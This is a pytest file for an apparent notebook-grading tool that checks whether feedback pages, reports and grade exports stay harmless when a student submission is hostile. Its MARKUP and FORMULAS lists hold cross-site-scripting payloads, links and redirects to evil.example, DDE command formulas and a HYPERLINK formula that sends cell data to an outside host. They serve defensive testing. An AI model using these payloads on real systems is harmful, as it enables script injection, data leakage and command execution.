# ruff: noqa: E501  (submissions read better on one line)
"""Attacks 36 and 37: a hostile class is run, and what comes of it is read: feedback, report and exports."""

import csv
import io

import class_kit as kit
import page_kit
import pytest

from cvgrade.export import Mark, export

MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvA\tscript&colon;alert(1)'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "</pre></div></main></body></html><script>alert(1)</script>",
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "<p id=overview class='check good'>forged</p>",
]
EVIL = "\n\n".join(MARKUP)
BEFORE = f"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
EVIL = {EVIL!r}
display(HTML(EVIL), Markdown(EVIL))
display({{"image/svg+xml": EVIL, "text/plain": EVIL, "application/javascript": "alert(1)", EVIL: EVIL}}, raw=True)
display({{"image/png": EVIL, "text/latex": EVIL}}, raw=True, metadata={{"image/png": {{"alt": EVIL, "width": EVIL}}}})
print(EVIL, "\\x1b]8;;javascript:alert(1)\\x07x\\x1b[31m" + EVIL)
import sys
print(EVIL, file=sys.stderr)
Evil = type(EVIL, (Exception,), {{}})
"""


@pytest.fixture(scope="module")
def hostile(station, tmp_path_factory):
    """A course with an honest and a hostile student, run by `cvgrade run` behind the wall."""
    pytest.importorskip("distributed")
    root = kit.course(tmp_path_factory.mktemp("class") / "course", {"amara": "right"})
    kit.hand_in(root, "dalia", "wrong", EVIL, BEFORE)
    raising = kit.answered("right", EVIL)
    for cell in raising.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "double":
            cell.source = f"{BEFORE}def double(x): raise Evil(EVIL)\nraise Evil(EVIL)"
    kit.write(root / "submitted" / "evil" / kit.NAME / f"{kit.NAME}.ipynb", raising)
    code, out, err = kit.finish(root, "--workers", "1")
    assert code == 0, (out, err)
    return root


def _cvgrade(root, *words):
    from cvgrade import cli

    return cli.main([words[0], kit.NAME, "--course", str(root), *words[1:]])


@pytest.mark.slow
@pytest.mark.attack(36)
def test_feedback_and_report_of_a_hostile_class_can_do_nothing(hostile, tell):
    assert _cvgrade(hostile, "feedback") == 0
    pages = {path.parts[-3]: path.read_text("utf-8") for path in (hostile / "feedback").rglob("*.html")}
    assert set(pages) == {"amara", "dalia", "evil"}
    for text in pages.values():
        page = page_kit.check_harmless(text)
        assert "43.0" not in page.text  # of the hidden test
    assert "alert(1)" in page_kit.Reader(pages["evil"]).text  # what was printed is shown, as text
    assert _cvgrade(hostile, "report") == 0
    page_kit.check_harmless((hostile / "report" / f"{kit.NAME}.html").read_text("utf-8"))
    tell("shown as text; nothing runs or loads")


@pytest.mark.slow
@pytest.mark.attack(36)
def test_the_hostile_class_got_the_marks_of_its_answers(hostile):
    marks = kit.marks(kit.database(hostile))
    scores = {key: auto for key, (auto, _, _) in marks.items() if key[1] != "why"}
    assert scores == {
        ("amara", "double_test"): 2.0,
        ("amara", "total_test"): 3.0,
        ("dalia", "double_test"): 0.0,
        ("dalia", "total_test"): 0.0,
        ("evil", "double_test"): 0.0,
        ("evil", "total_test"): 3.0,
    }


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "\ufeff=1+1",
    '=HYPERLINK("http://x/?"&A1,"ok")',
    'x","=1+1',
    "x\r\n=1+1",
]
SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")


@pytest.mark.attack(37)
@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("to", ["canvas", "moodle", "csv"])
def test_no_cell_of_an_export_is_a_formula(tell, formula, to):
    hostile = Mark(formula, 1, 8, *[formula] * 7, {formula: 1})
    table = list(
        csv.reader(io.StringIO(export(formula, [hostile], to).text.removeprefix("\ufeff"), newline=""))
    )
    assert {len(row) for row in table} == {len(table[0])}
    for row in table:
        for value in row:
            assert not value.lstrip(" \ufeff").startswith(SIGNS) or value == "-"
    tell("text, not a formula")


@pytest.mark.slow
@pytest.mark.attack(37)
def test_a_hostile_name_in_the_gradebook_leaves_no_formula_in_the_file(hostile, tmp_path):
    from nbgrader.api import Gradebook

    with Gradebook(kit.database(hostile), "numbers") as gradebook:
        gradebook.update_or_create_student("evil", first_name="=1+1", last_name='@SUM(A1)","=2')
    for to in ("canvas", "moodle", "csv"):
        out = tmp_path / f"{to}.csv"
        assert _cvgrade(hostile, "export", "--to", to, "--out", str(out)) in (0, 3)
        rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"), newline="")))
        assert any("SUM(A1)" in value for row in rows for value in row)
        assert not [value for row in rows for value in row if value.startswith(SIGNS) and value != "-"]
